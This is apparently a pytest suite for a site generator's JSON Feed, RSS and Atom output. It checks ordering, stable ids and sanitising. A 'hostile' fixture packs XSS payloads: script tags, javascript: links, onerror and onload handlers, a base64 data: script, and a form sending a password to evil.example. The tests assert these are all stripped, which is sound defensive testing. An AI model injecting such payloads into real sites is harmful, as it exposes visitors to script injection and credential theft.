"""The feeds (issue 5): JSON Feed 1.1, RSS 2.0 and Atom 1.0, parsed back and held to the model."""

from __future__ import annotations

from dataclasses import replace

import json
import uuid
from datetime import datetime, timedelta, timezone
from email.utils import parsedate_to_datetime
from pathlib import Path

import feedparser
import pytest
from lxml import etree, html

from jsonfeed_spec import check_feed
from xtdpublish.config import Config, ConfigError, FeedsConfig, SiteConfig
from xtdpublish.model import Link, LinkStatus, Model, NavNode, Note, Site
from xtdpublish.render.feeds import item_body as feedbody, items as feeditems, jsonfeed, rss
from xtdpublish.render.feeds.items import FeedBuilder, item_id, select_notes, tag_slug
from xtdpublish.report import Report

BASE = "https://www.museumxtd.ch"
ZURICH = timezone(timedelta(hours=2))
DAY0 = datetime(2022, 5, 13, 10, 0, tzinfo=ZURICH)
CONTENT_NS = "{http://purl.org/rss/1.0/modules/content/}encoded"
UNSAFE_TAGS = {"script", "style", "iframe", "object", "embed", "frame", "frameset", "applet",
               "base", "link", "meta", "form", "svg", "math"}


# --- building small models by hand -------------------------------------------------------

def note(name: str, body: str = "<p>Texte.</p>", *, links=(), tags=("ressource",),
         published=DAY0, updated=None, uid=None, title=None, path=None, first_path=None,
         summary="Un résumé.") -> Note:
    path = path or f"Notes/{name}.md"
    return Note(
        id=name.lower().replace(" ", "-"), path=path, title=title or name, title_source="alias",
        aliases=(), tags=tuple(tags), published=published, updated=updated or published,
        date_source="git", first_path=first_path or path, uid=uid, nav_parent=None,
        body_line=5, body_html=body, summary=summary, links=tuple(links),
    )


def link(status, target=None, anchor=None, asset=None, label="x", embed=False) -> Link:
    return Link(line=7, raw=f"[[{label}]]", target_text=label, label=label, fragment=None,
                embed=embed, status=status, target=target, anchor=anchor, asset=asset)


def model_of(*notes: Note, base_url: str | None = BASE, title="MuseumXTD") -> Model:
    site = Site(title, "La transition numérique", "MuseumXTD", "fr", base_url, "{base_url}/{path}/")
    nav = NavNode(title, kind="root", children=tuple(NavNode(n.title, n.id) for n in notes))
    ordered = tuple(sorted(notes, key=lambda n: n.path))
    return Model(site, ordered, nav, (), (), (), Path("/vault"))


def config_of(tags=("ressource",), limit=20, per_tag=False, source=None) -> Config:
    return Config(site=SiteConfig(base_url=BASE), feeds=FeedsConfig(tuple(tags), limit, per_tag),
                  source=source)


def render_all(model: Model, config: Config, out: Path, report: Report | None = None) -> dict[str, Path]:
    report = report or Report()
    written = [*jsonfeed.render(model, config, out, report), *rss.render_rss(model, config, out, report),
               *rss.render_atom(model, config, out, report)]
    return {str(p.relative_to(out)): p for p in written}


# A note written to hurt whoever injects the feed.
HOSTILE_BODY = (
    '<p>Hello<script>alert(1)</script> <a href="javascript:alert(2)">click</a> '
    '<a href=" JaVaScRiPt:alert(3)">again</a> <img src="x.png" onerror="alert(4)" alt="x"></p>'
    '<style>body{display:none}</style>'
    '<iframe src="javascript:alert(5)"></iframe>'
    '<iframe src="https://www.youtube-nocookie.com/embed/QEPvU93NYn0?start=30" title="Forum, jour 1"></iframe>'
    '<object data="evil.swf"><embed src="evil.swf"></object>'
    '<svg onload="alert(6)"><circle r="1"/></svg>'
    '<div onclick="alert(7)" style="position:fixed">overlay</div>'
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==">data</a>'
    '<form action="https://evil.example/steal"><input name="pw"></form>'
    '<p><a href="relative/page.html">rel</a> <a href="//cdn.example/x">proto</a> '
    '<a href="#sec">frag</a> <a href="mailto:info@museumxtd.ch">mail</a></p>'
    '<math><mi xlink:href="javascript:alert(9)">m</mi></math>'
)


def vault_model() -> Model:
    """Five resources, one hostile, one link-rich, two sharing a date, one note untagged."""
    rich = note(
        "Stratégie numérique",
        '<h2 id="pourquoi">Pourquoi</h2><p>Voir <a href="xtd:link/0">la méthode</a>, '
        '<a href="xtd:link/1">une page absente</a> et <a href="xtd:link/2">un brouillon</a>.</p>'
        '<p><img src="xtd:link/3" alt="Schéma"> <a href="xtd:link/4">le PDF</a></p>'
        '<div class="xtd-embed" data-link="5"><a href="xtd:link/5">Méthode</a></div>'
        '<p><iframe width="560" src="https://www.youtube.com/embed/QEPvU93NYn0" '
        'title="YouTube video player"></iframe></p>',
        links=[link(LinkStatus.RESOLVED, "méthode", anchor="étape-1", label="la méthode"),
               link(LinkStatus.DANGLING, label="une page absente"),
               link(LinkStatus.UNPUBLISHED, "brouillon", label="un brouillon"),
               link(LinkStatus.ASSET, asset="images/schéma 1.png"),
               link(LinkStatus.ASSET, asset="files/guide.pdf"),
               link(LinkStatus.RESOLVED, "méthode", label="Méthode", embed=True)],
        published=DAY0 + timedelta(days=30), updated=DAY0 + timedelta(days=60),
    )
    return model_of(
        rich,
        note("Méthode", published=DAY0 + timedelta(days=10)),
        note("Zèbre", published=DAY0 + timedelta(days=20)),
        note("Abeille", published=DAY0 + timedelta(days=20)),  # same instant: title decides
        note("Hostile <b>note</b>", HOSTILE_BODY, published=DAY0 + timedelta(days=5),
             title='<img src=x onerror="alert(1)">Hostile', summary="<script>x</script>Résumé <b>gras</b>"),
        note("Page", tags=("guide",), published=DAY0 + timedelta(days=90)),
    )


@pytest.fixture
def built(tmp_path):
    model = vault_model()
    report = Report()
    files = render_all(model, config_of(), tmp_path / "out", report)
    return model, files, report


def expected_order(model: Model) -> list[Note]:
    return select_notes(model.notes, ("ressource",), 20)


# --- parsing back ------------------------------------------------------------------------

def test_the_three_feeds_hold_the_same_items_in_the_same_order_as_the_model(built):
    model, files, _ = built
    notes = expected_order(model)
    assert [n.title for n in notes] == [
        "Stratégie numérique", "Abeille", "Zèbre", "Méthode", '<img src=x onerror="alert(1)">Hostile']
    data = json.loads(files["feed.json"].read_text(encoding="utf-8"))
    rss_feed = feedparser.parse(files["rss.xml"].read_bytes())
    atom_feed = feedparser.parse(files["atom.xml"].read_bytes())
    assert not rss_feed.bozo and not atom_feed.bozo
    assert rss_feed.version == "rss20" and atom_feed.version == "atom10"
    urls = [model.note_url(n) for n in notes]
    assert [i["url"] for i in data["items"]] == urls
    assert [e.link for e in rss_feed.entries] == urls
    assert [e.link for e in atom_feed.entries] == urls
    ids = [i["id"] for i in data["items"]]
    assert len(set(ids)) == len(ids) == 5
    assert [e.id for e in rss_feed.entries] == ids == [e.id for e in atom_feed.entries]
    titles = ["Stratégie numérique", "Abeille", "Zèbre", "Méthode", "Hostile"]
    assert [i["title"] for i in data["items"]] == titles
    assert [e.title for e in rss_feed.entries] == titles == [e.title for e in atom_feed.entries]
    for item, entry, note_ in zip(data["items"], rss_feed.entries, notes):
        assert datetime.fromisoformat(item["date_published"]) == note_.published
        assert datetime.fromisoformat(item["date_modified"]) == max(note_.updated, note_.published)
        assert parsedate_to_datetime(entry.published) == note_.published
        assert item["tags"] == ["ressource"] == [t.term for t in entry.tags]
        assert item["language"] == "fr" and item["authors"] == [{"name": "MuseumXTD"}]
    for entry, note_ in zip(atom_feed.entries, notes):
        assert datetime.fromisoformat(entry.published) == note_.published
        assert datetime.fromisoformat(entry.updated) == max(note_.updated, note_.published)


def test_the_json_feed_passes_the_spec_checker(built):
    _, files, _ = built
    data = json.loads(files["feed.json"].read_text(encoding="utf-8"))
    assert check_feed(data) == []
    assert data["version"] == "https://jsonfeed.org/version/1.1"
    assert data["home_page_url"] == BASE + "/" and data["feed_url"] == BASE + "/feed.json"
    assert data["language"] == "fr"


def test_the_spec_checker_catches_what_the_spec_forbids():
    bad = {
        "version": "https://jsonfeed.org/version/1", "title": "<b>T</b>", "home_page_url": "/",
        "author": {"name": "x"}, "authors": [{}], "language": "français",
        "items": [
            {"id": 1, "content_html": "x"},
            {"id": "a", "title": "<i>x</i>", "summary": "a &amp; b"},
            {"id": "a", "content_text": "x", "date_published": "2022-05-13 10:00",
             "date_modified": "2022-13-01T00:00:00Z", "tags": "ressource", "url": "Notes/a/"},
        ],
    }
    problems = "\n".join(check_feed(bad))
    for expected in ("version must be", "feed.title must be plain", "feed_url is missing",
                     "home_page_url '/' is not an absolute", "feed.author is JSON Feed 1.0",
                     "authors[0] must be an object", "not an RFC 5646", "items[0].id is required",
                     "items[1] has neither", "items[1].title must be plain", "items[1].summary must be plain",
                     "items[2].id 'a' is also items[1].id", "'2022-05-13 10:00' is not an RFC 3339",
                     "'2022-13-01T00:00:00Z' is not an RFC 3339", "tags must be an array",
                     "items[2].url 'Notes/a/' is not an absolute"):
        assert expected in problems


def test_the_spec_checker_reads_a_lone_less_than_as_text_like_html_does():
    """Found by tests/test_fuzz_vaults.py: plain_text keeps "a < b" (text to any HTML parser),
    which the checker took for a tag."""
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": "T", "home_page_url": BASE,
            "feed_url": BASE + "/feed.json",
            "items": [{"id": "a", "content_html": "x", "summary": "a < b, 1 <\n? x", "title": "< p"}]}
    assert check_feed(feed) == []
    feed["items"][0]["summary"] = "a <b> c"
    assert "summary must be plain" in "".join(check_feed(feed))


def html_fields(files: dict[str, Path]) -> list[tuple[str, str]]:
    """Every HTML field of every feed: (where, html)."""
    fields = []
    data = json.loads(files["feed.json"].read_text(encoding="utf-8"))
    fields += [(f"json {i['id']}", i["content_html"]) for i in data["items"]]
    rss_tree = etree.fromstring(files["rss.xml"].read_bytes())
    fields += [(f"rss {item.findtext('guid')}", item.findtext(CONTENT_NS)) for item in rss_tree.iter("item")]
    atom = "{http://www.w3.org/2005/Atom}"
    atom_tree = etree.fromstring(files["atom.xml"].read_bytes())
    for entry in atom_tree.iter(atom + "entry"):
        content = entry.find(atom + "content")
        assert content.get("type") == "html"
        fields.append((f"atom {entry.findtext(atom + 'id')}", content.text))
    return fields


def test_every_url_in_every_html_field_is_absolute_and_no_markup_is_unsafe(built):
    _, files, _ = built
    fields = html_fields(files)
    assert len(fields) == 15
    for where, fragment in fields:
        root = html.fragment_fromstring(fragment, create_parent="div")
        for element in root.iter():
            if not isinstance(element.tag, str):
                continue
            assert element.tag not in UNSAFE_TAGS, (where, element.tag)
            for name, value in element.attrib.items():
                assert not name.lower().startswith("on"), (where, name)
                assert name.lower() not in {"style", "srcdoc", "formaction"}, (where, name)
                assert "javascript:" not in value.lower().replace(" ", ""), (where, value)
                if name in {"href", "src", "srcset", "poster", "cite", "action", "data"}:
                    assert value.startswith(("https://", "http://", "mailto:")), (where, name, value)
        assert "xtd:link" not in fragment, where
    # ...and the raw feed files carry none of it either, in any field.
    for name in ("feed.json", "rss.xml", "atom.xml"):
        text = files[name].read_text(encoding="utf-8")
        assert "alert(" not in text, name
        assert "<script" not in text.lower() and "&lt;script" not in text.lower(), name


def test_the_hostile_note_keeps_its_text_and_safe_links(built):
    model, files, _ = built
    data = json.loads(files["feed.json"].read_text(encoding="utf-8"))
    hostile = next(i for i in data["items"] if i["title"] == "Hostile")
    body = hostile["content_html"]
    assert "Hello" in body and "overlay" in body and ">click</a>" in body
    page = model.note_url(model.note("hostile-<b>note</b>"))
    assert f'href="{page}relative/page.html"' in body
    assert f'href="{page}#sec"' in body
    assert 'href="mailto:info@museumxtd.ch"' in body
    assert f'src="{page}x.png"' in body
    # The YouTube frame became a link to watch it, at its start time, with its title.
    assert '<a href="https://www.youtube.com/watch?v=QEPvU93NYn0&amp;t=30" rel="noopener">Forum, jour 1</a>' in body
    assert hostile["summary"] == "Résumé gras"


def test_links_point_at_the_live_site_and_dangling_ones_are_plain_text(built):
    model, files, _ = built
    data = json.loads(files["feed.json"].read_text(encoding="utf-8"))
    body = data["items"][0]["content_html"]
    methode = model.note_url(model.note("méthode"))
    assert f'<a href="{methode}#%C3%A9tape-1" rel="noopener">la méthode</a>' in body
    assert "une page absente" in body and "un brouillon" in body
    root = html.fragment_fromstring(body, create_parent="div")
    labels = {a.text_content(): a.get("href") for a in root.iter("a")}
    assert "une page absente" not in labels and "un brouillon" not in labels
    assert f'src="{BASE}/images/sch%C3%A9ma%201.png"' in body
    assert labels["le PDF"] == f"{BASE}/files/guide.pdf"
    assert labels["Méthode"] == methode  # an embedded note is a link, not a copy
    assert labels["https://www.youtube.com/watch?v=QEPvU93NYn0"] == "https://www.youtube.com/watch?v=QEPvU93NYn0"
    assert "<iframe" not in body and 'id="' not in body and 'class="' not in body


def test_rss_items_carry_description_before_content_encoded_and_a_non_permalink_guid(built):
    _, files, _ = built
    tree = etree.fromstring(files["rss.xml"].read_bytes())
    for item in tree.iter("item"):
        tags = [child.tag for child in item]
        assert tags.index("description") < tags.index(CONTENT_NS)
        guid = item.find("guid")
        assert guid.get("isPermaLink") == "false" and not guid.text.startswith("http")
        assert item.findtext("{http://purl.org/dc/elements/1.1/}creator") == "MuseumXTD"
    first = next(tree.iter("item"))
    assert first.findtext("description") == "Un résumé."
    assert first.findtext("pubDate") == "Sun, 12 Jun 2022 10:00:00 +0200"


# --- feedgen's traps ---------------------------------------------------------------------

def test_trap_add_entry_prepends_by_default_so_items_are_appended_in_order(tmp_path):
    notes = [note(f"N{i}", published=DAY0 + timedelta(days=i)) for i in range(5)]
    files = render_all(model_of(*notes), config_of(), tmp_path)
    for name in ("rss.xml", "atom.xml"):
        titles = [e.title for e in feedparser.parse(files[name].read_bytes()).entries]
        assert titles == ["N4", "N3", "N2", "N1", "N0"], name


def test_trap_dates_default_to_now_so_the_channel_date_is_the_newest_items(tmp_path):
    notes = [note("Old", published=DAY0, updated=DAY0 + timedelta(days=400)),
             note("New", published=DAY0 + timedelta(days=100))]
    files = render_all(model_of(*notes), config_of(), tmp_path)
    newest = DAY0 + timedelta(days=400)
    channel = etree.fromstring(files["rss.xml"].read_bytes()).find("channel")
    assert parsedate_to_datetime(channel.findtext("lastBuildDate")) == newest
    atom = feedparser.parse(files["atom.xml"].read_bytes())
    assert datetime.fromisoformat(atom.feed.updated) == newest
    assert [datetime.fromisoformat(e.updated) for e in atom.entries] == [DAY0 + timedelta(days=100), newest]
    assert "2026" not in files["rss.xml"].read_text() + files["atom.xml"].read_text()


def test_trap_the_rss_channel_link_is_the_site_and_the_self_link_is_the_feed(tmp_path):
    files = render_all(vault_model(), config_of(), tmp_path)
    channel = etree.fromstring(files["rss.xml"].read_bytes()).find("channel")
    assert channel.findtext("link") == BASE + "/"
    self_link = channel.find("{http://www.w3.org/2005/Atom}link")
    assert (self_link.get("rel"), self_link.get("href")) == ("self", BASE + "/rss.xml")
    atom = feedparser.parse(files["atom.xml"].read_bytes()).feed
    assert {(l.rel, l.href) for l in atom.links} == {("self", BASE + "/atom.xml"), ("alternate", BASE + "/")}
    assert atom.language == "fr"


def test_trap_naive_datetimes_are_read_as_utc_not_refused(tmp_path):
    naive = note("Naive", published=datetime(2022, 5, 13, 8, 0))
    files = render_all(model_of(naive), config_of(), tmp_path)
    data = json.loads(files["feed.json"].read_text(encoding="utf-8"))
    assert data["items"][0]["date_published"] == "2022-05-13T08:00:00Z"
    assert feedparser.parse(files["rss.xml"].read_bytes()).entries[0].published == \
        "Fri, 13 May 2022 08:00:00 +0000"


# --- selection, order, ids ---------------------------------------------------------------

def test_two_builds_of_an_unchanged_vault_are_byte_identical(tmp_path):
    first = render_all(vault_model(), config_of(per_tag=True), tmp_path / "a")
    second = render_all(vault_model(), config_of(per_tag=True), tmp_path / "b")
    assert first.keys() == second.keys() and len(first) >= 5
    for name in first:
        assert first[name].read_bytes() == second[name].read_bytes(), name


def test_selection_by_tag_newest_first_ties_by_title_and_limit():
    model = vault_model()
    assert [n.title for n in select_notes(model.notes, ("ressource",), 3)] == \
        ["Stratégie numérique", "Abeille", "Zèbre"]
    assert [n.title for n in select_notes(model.notes, (), 2)] == ["Page", "Stratégie numérique"]
    assert [n.title for n in select_notes(model.notes, ("#Guide",), 20)] == ["Page"]


def test_an_items_id_does_not_follow_the_notes_id():
    """Ids now spell œ as oe: a feed item's id comes from the note's first path and date (or
    its uid), so the items of notes whose ids changed keep theirs."""
    before = note("uvre", path="Notes/Œuvre.md")
    after = replace(before, id="oeuvre")
    assert item_id(before, "example.org") == item_id(after, "example.org")


def test_a_tag_selects_the_notes_of_its_nested_tags_as_obsidian_does():
    notes = (note("Lire", tags=("inbox/to-read",)), note("Traiter", tags=("Inbox/Processing/x",)),
             note("Boîte", tags=("inbox",)), note("Autre", tags=("inboxes", "outbox/inbox")))
    assert sorted(n.title for n in select_notes(notes, ("inbox",), 20)) == ["Boîte", "Lire", "Traiter"]
    assert [n.title for n in select_notes(notes, ("inbox/processing",), 20)] == ["Traiter"]
    assert [n.title for n in select_notes(notes, ("inbox/to-read/more",), 20)] == []


def test_only_selected_notes_are_rendered(monkeypatch, tmp_path):
    rendered = []
    original = feeditems.item_html
    monkeypatch.setattr(feeditems, "item_html",
                        lambda m, n, *a: rendered.append(n.id) or original(m, n, *a))
    notes = [note(f"N{i:03}", published=DAY0 + timedelta(hours=i)) for i in range(200)]
    model = model_of(*notes)
    for renderer in (jsonfeed.render, rss.render_rss, rss.render_atom):
        renderer(model, config_of(limit=7), tmp_path, Report())
    # the three formats of one build share the rendered items: each selected note once
    assert sorted(rendered) == [f"n{i:03}" for i in range(193, 200)]


def test_item_ids_come_from_the_uid_else_the_first_path_and_date_never_url_or_title():
    host = "www.museumxtd.ch"
    plain = note("Foo")
    assert item_id(plain, host) == "tag:www.museumxtd.ch,2022-05-13:Notes/Foo"
    renamed = note("Bar", title="Another title", path="Archive/Bar.md", first_path="Notes/Foo.md")
    assert item_id(renamed, host) == item_id(plain, host)
    accented = note("Qu'est-ce que", path="Notes/Qu'est-ce qu'une stratégie.md")
    assert item_id(accented, host) == "tag:www.museumxtd.ch,2022-05-13:Notes/Qu%27est-ce%20qu%27une%20strat%C3%A9gie"
    assert item_id(note("X", uid="https://example.org/r/1"), host) == "https://example.org/r/1"
    u = "3f2c8a6e-8f6b-4b9a-9d55-2f1f3f0e7a10"
    assert item_id(note("X", uid=u), host) == f"urn:uuid:{u}"
    by_uid = item_id(note("X", uid="res-42"), host)
    assert by_uid == item_id(note("Y", uid="res-42", path="Else/Y.md",
                                  published=DAY0 + timedelta(days=9)), host)
    assert uuid.UUID(by_uid.removeprefix("urn:uuid:")).version == 5
    assert by_uid != item_id(note("X", uid="res-43"), host)


def test_a_renamed_and_retitled_note_keeps_its_id_in_every_feed(tmp_path):
    before = model_of(note("Foo"), note("Other", published=DAY0 + timedelta(days=1)))
    after = model_of(note("Bar", title="New title", path="Notes/Sub/Bar.md", first_path="Notes/Foo.md"),
                     note("Other", published=DAY0 + timedelta(days=1)))
    one = render_all(before, config_of(), tmp_path / "1")
    two = render_all(after, config_of(), tmp_path / "2")
    for name in ("rss.xml", "atom.xml"):
        ids = lambda files: [e.id for e in feedparser.parse(files[name].read_bytes()).entries]
        assert ids(one) == ids(two)
    j = lambda files: json.loads(files["feed.json"].read_text(encoding="utf-8"))["items"]
    assert [i["id"] for i in j(one)] == [i["id"] for i in j(two)]
    assert j(one)[1]["url"] != j(two)[1]["url"]


def test_a_copied_uid_is_reported_and_ids_stay_unique(tmp_path):
    report = Report()
    model = model_of(note("A", uid="same"), note("B", uid="same"))
    files = render_all(model, config_of(), tmp_path, report)
    ids = [i["id"] for i in json.loads(files["feed.json"].read_text(encoding="utf-8"))["items"]]
    assert len(set(ids)) == 2
    warnings = [d for d in report.sorted() if d.code == "feed.id"]
    assert len(warnings) == 1 and warnings[0].path == "Notes/B.md"  # printed once, not once per format
    assert "Notes/A.md" in warnings[0].message and "uid" in warnings[0].message


def test_per_tag_feeds_go_to_feeds_slug_for_every_tag(tmp_path):
    notes = [note("A", tags=("ressource", "Médiation culturelle")), note("B", tags=("médiation culturelle",)),
             note("C", tags=("guide",))]
    files = render_all(model_of(*notes), config_of(per_tag=True), tmp_path)
    assert set(files) == {"feed.json", "rss.xml", "atom.xml",
                          "feeds/ressource.json", "feeds/ressource.xml",
                          "feeds/mediation-culturelle.json", "feeds/mediation-culturelle.xml",
                          "feeds/guide.json", "feeds/guide.xml"}
    data = json.loads(files["feeds/mediation-culturelle.json"].read_text(encoding="utf-8"))
    assert check_feed(data) == []
    assert data["feed_url"] == BASE + "/feeds/mediation-culturelle.json"
    assert sorted(i["title"] for i in data["items"]) == ["A", "B"]
    tagged = feedparser.parse(files["feeds/guide.xml"].read_bytes())
    assert [e.title for e in tagged.entries] == ["C"] and not tagged.bozo
    assert tag_slug("Ça & là / 2024") == "ca-la-2024"


def test_without_notes_the_feeds_are_valid_and_dated_without_the_clock(tmp_path):
    files = render_all(model_of(note("Page", tags=("guide",))), config_of(), tmp_path)
    data = json.loads(files["feed.json"].read_text(encoding="utf-8"))
    assert data["items"] == [] and check_feed(data) == []
    channel = etree.fromstring(files["rss.xml"].read_bytes()).find("channel")
    assert parsedate_to_datetime(channel.findtext("lastBuildDate")) == DAY0


# --- configuration -----------------------------------------------------------------------

@pytest.mark.parametrize("renderer", [jsonfeed.render, rss.render_rss, rss.render_atom])
def test_without_base_url_each_feed_stops_with_a_config_error_naming_the_key_and_file(renderer, tmp_path):
    source = tmp_path / "vault" / "xtdpublish.toml"
    with pytest.raises(ConfigError) as error:
        renderer(model_of(note("A"), base_url=None), config_of(source=source), tmp_path / "out", Report())
    assert "site.base_url" in str(error.value) and str(source) in str(error.value)
    assert not (tmp_path / "out").exists()


def test_feedbody_plain_text_takes_markup_out_and_keeps_text():
    assert feedbody.plain_text("<img src=x onerror=alert(1)>Titre &amp; <b>sous-titre</b>") == "Titre & sous-titre"
    assert feedbody.plain_text("&lt;script&gt;alert(1)&lt;/script&gt;ok") == "ok"
    assert feedbody.plain_text("a < b  et\n c") == "a < b et c"


def test_a_selected_note_dated_by_its_file_time_is_reported_by_each_format_and_printed_once(tmp_path):
    touched = note("Touched")
    touched = Note(**{**{f: getattr(touched, f) for f in Note.__slots__}, "date_source": "mtime"})
    unselected = Note(**{**{f: getattr(touched, f) for f in Note.__slots__},
                         "id": "other", "path": "Notes/Other.md", "first_path": "Notes/Other.md",
                         "tags": ("guide",)})
    with_uid = Note(**{**{f: getattr(touched, f) for f in Note.__slots__},
                       "id": "stable", "path": "Notes/Stable.md", "first_path": "Notes/Stable.md",
                       "uid": "r-1"})
    model = model_of(touched, unselected, with_uid)
    reports = [Report(), Report(), Report()]  # the build gives each format its own report:
    for renderer, report in zip((jsonfeed.render, rss.render_rss, rss.render_atom), reports):
        renderer(model, config_of(), tmp_path / "main", report)
    for report in reports:  # each carries the warning, so a format rebuilt alone still tells it
        assert [(d.path, d.line, d.code) for d in report.diagnostics] == [("Notes/Touched.md", 1, "feed.date")]
    build = Report()
    build.diagnostics = [d for r in reports for d in r.diagnostics]
    assert len(build.sorted()) == 1  # ...and the build prints it once
    message = reports[0].diagnostics[0].message
    assert "git" in message and "date:" in message
    report = Report()  # per-tag feeds publish Other too; Touched, in two feeds, is told once
    jsonfeed.render(model_of(touched, unselected, with_uid), config_of(per_tag=True), tmp_path / "tags", report)
    assert sorted((d.path, d.code) for d in report.diagnostics) == [
        ("Notes/Other.md", "feed.date"), ("Notes/Touched.md", "feed.date")]


def test_cli_without_base_url_exits_2_names_the_key_and_still_builds_the_model(make_vault, tmp_path, capsys):
    from xtdpublish.cli import main

    vault = make_vault({
        "xtdpublish.toml": '[site]\ntitle = "T"\n[feeds]\ntags = ["ressource"]\n',
        "Notes/A.md": "---\ntags: ressource\n---\n# A\n\nTexte.\n",
    })
    out = tmp_path / "out"
    code = main(["build", "--vault", str(vault), "--out", str(out), "--format", "model,json"])
    err = capsys.readouterr().err
    assert code == 2
    assert "site.base_url" in err and str(vault / "xtdpublish.toml") in err
    assert json.loads((out / "model.json").read_text(encoding="utf-8"))["notes"]
    assert not (out / "feed.json").exists()


def test_notes_in_the_same_second_are_a_tie_ordered_by_title(tmp_path):
    notes = [note("Zinc", published=DAY0.replace(microsecond=10)),
             note("Argent", published=DAY0.replace(microsecond=900_000)),
             note("Cuivre", published=DAY0.replace(microsecond=500))]
    assert [n.title for n in select_notes(tuple(notes), (), 20)] == ["Argent", "Cuivre", "Zinc"]
    files = render_all(model_of(*notes), config_of(), tmp_path)
    atom = feedparser.parse(files["atom.xml"].read_bytes())
    assert [e.updated for e in atom.entries] == ["2022-05-13T10:00:00+02:00"] * 3


def test_tags_are_plain_text_in_every_feed(tmp_path):
    files = render_all(model_of(note("A", tags=("ressource", "<img src=x onerror=alert(1)>", "#ok"))),
                       config_of(), tmp_path)
    data = json.loads(files["feed.json"].read_text(encoding="utf-8"))
    assert data["items"][0]["tags"] == ["ressource", "ok"]
    assert "onerror" not in files["rss.xml"].read_text() + files["atom.xml"].read_text()


def test_per_tag_feeds_of_a_tag_that_is_gone_are_removed(tmp_path):
    out = tmp_path / "out"
    render_all(model_of(note("A", tags=("ressource", "ancien"))), config_of(per_tag=True), out)
    assert (out / "feeds" / "ancien.json").is_file() and (out / "feeds" / "ancien.xml").is_file()
    (out / "feeds" / "notes.txt").write_text("not ours")
    files = render_all(model_of(note("A", tags=("ressource",))), config_of(per_tag=True), out)
    assert sorted(p.name for p in (out / "feeds").iterdir()) == ["notes.txt", "ressource.json", "ressource.xml"]
    assert set(files) >= {"feeds/ressource.json", "feeds/ressource.xml"}


def test_the_rss_description_is_the_summary_escaped_as_html_and_atom_keeps_it_as_text(tmp_path):
    files = render_all(model_of(note("A", summary="1 < 2 & AT&T")), config_of(), tmp_path)
    item = etree.fromstring(files["rss.xml"].read_bytes()).find("channel/item")
    assert item.findtext("description") == "1 &lt; 2 &amp; AT&amp;T"
    atom = feedparser.parse(files["atom.xml"].read_bytes()).entries[0]
    assert atom.summary == "1 < 2 & AT&T" and atom.summary_detail.type == "text/plain"
    assert json.loads(files["feed.json"].read_text(encoding="utf-8"))["items"][0]["summary"] == "1 < 2 & AT&T"


def test_the_items_shared_between_formats_are_dropped_with_their_model(tmp_path):
    import gc

    model = model_of(note("A"))
    jsonfeed.render(model, config_of(), tmp_path, Report())
    assert id(model) in feeditems._SHARED
    key = id(model)
    del model
    gc.collect()
    assert key not in feeditems._SHARED


def test_characters_xml_cannot_hold_are_left_out_of_every_feed(tmp_path):
    """Found by tests/test_fuzz_vaults.py: a note with a backspace (``\\x08``) in its text made
    lxml refuse the RSS description, and the RSS and Atom feeds were not written."""
    dirty = "Ti\x08tre\x0b\x1f\ufffe"
    model = model_of(note("A", body=f"<p>corps\x01 {dirty}</p>", title=dirty, summary="Ré\x01sumé",
                          tags=("ressource", "t\x02ag"), uid="urn:x\x03y"))
    files = render_all(model, config_of(), tmp_path)
    for name in ("rss.xml", "atom.xml"):
        parsed = feedparser.parse(files[name].read_bytes())
        assert not parsed.bozo, parsed.get("bozo_exception")
        assert parsed.entries[0].title == "Titre" and parsed.entries[0].id == "urn:xy"
    item = json.loads(files["feed.json"].read_text(encoding="utf-8"))["items"][0]
    assert (item["title"], item["summary"], item["tags"]) == ("Titre", "Résumé", ["ressource", "tag"])
    assert item["content_html"] == "<p>corps Titre</p>"


def test_a_summary_taken_from_the_items_text_is_plain_text_too(tmp_path):
    """Found by tests/test_fuzz_vaults.py: a note with only a code block has no summary in the
    model, and the one made from the item's text kept the code's ``<script>`` as markup."""
    code = "<pre><code>[[Index]] &lt;script&gt;alert(1)&lt;/script&gt; 1 &lt; 2</code></pre>"
    files = render_all(model_of(note("A", body=code, summary="")), config_of(), tmp_path)
    data = json.loads(files["feed.json"].read_text(encoding="utf-8"))
    assert check_feed(data) == []
    assert data["items"][0]["summary"] == "[[Index]] 1 < 2"
    assert "&lt;script&gt;" in data["items"][0]["content_html"]  # the code itself is kept
